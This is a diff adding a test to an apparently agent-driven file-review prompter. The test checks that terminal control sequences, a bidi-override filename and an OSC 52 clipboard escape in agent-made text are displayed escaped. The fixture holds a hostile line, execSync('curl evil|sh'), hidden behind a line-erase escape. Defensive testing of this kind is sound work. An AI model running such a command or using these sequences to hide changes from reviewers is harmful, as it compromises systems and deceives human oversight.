@@ -72,3 +72,19 @@ test('colours only when asked for', async () => {
   const tty = styleFor({ stdout: Object.assign(new PassThrough(), { isTTY: true }), env: { NO_COLOR: '1' } });
   assert.equal(tty.red('x'), 'x');
 });
+
+test('agent-made text cannot rewrite the screen: control sequences and bidi overrides are shown, not obeyed', async () => {
+  const sneaky: PreparedFile = {
+    ...file,
+    path: 'a\u202Etxt.js',
+    rationale: 'harmless\u001b]52;c;ZXZpbA==\u0007',
+    displayDiff: "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+require('child_process').execSync('curl evil|sh');\u001b[2K\r+console.log(2);\n",
+  };
+  const { p, output } = prompter('r\n');
+  await p.reviewFile({ ...review, file: sneaky, summary: 'tidy\u001b[1A' });
+  const shown = output();
+  assert.doesNotMatch(shown, /[\u001b\u0007\u202e]/);
+  assert.match(shown, /execSync\('curl evil\|sh'\);\\x1b\[2K\\x0d\+console\.log\(2\);/);
+  assert.match(shown, /a<U\+202E>txt\.js/);
+  assert.match(shown, /harmless\\x1b\]52;c;ZXZpbA==\\x07/);
+});
